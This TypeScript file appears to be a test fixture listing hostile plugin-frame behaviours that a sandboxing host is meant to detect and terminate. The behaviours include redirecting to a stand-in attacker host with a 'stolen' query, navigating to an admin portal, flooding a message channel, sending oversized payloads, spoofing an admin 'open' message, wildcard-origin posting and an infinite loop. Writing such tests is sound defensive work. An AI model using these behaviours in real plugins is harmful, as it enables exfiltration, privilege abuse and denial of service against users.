// What ends a screen that tries it.
import { known } from "./raw";

const own = (path: string, id: number) => ({
  type: "call",
  id,
  method: "GET",
  path,
  contentType: "",
  body: null,
});

export const ENDS: Record<string, () => void> = {
  "leaves for another site": () => location.assign("https://evil.example/?stolen"),
  "becomes another plugin's frame": () => location.assign("/frame/bigblue/0.1.0"),
  "becomes the portal": () => location.assign("/admin/user"),
  "floods the channel": () =>
    void known.then((port) => {
      for (let at = 0; at < 200_000; at++) port.postMessage(own("/hostile/connection", at));
    }),
  "sends without end": () =>
    void known.then((port) => {
      const large = "x".repeat(8 << 20);
      for (let at = 0; at < 20; at++) port.postMessage({ ...own("/hostile/connection", at), body: large });
    }),
  "says what no screen says": () =>
    void known.then((port) => port.postMessage({ type: "open", user: "admin" })),
  "calls beside the channel": () => parent.postMessage({ type: "ready" }, "*"),
  "uses a method of its own": () =>
    void known.then((port) => port.postMessage({ ...own("/hostile/connection", 1), method: "TRACE" })),
  computes: () => {
    for (;;);
  },
};
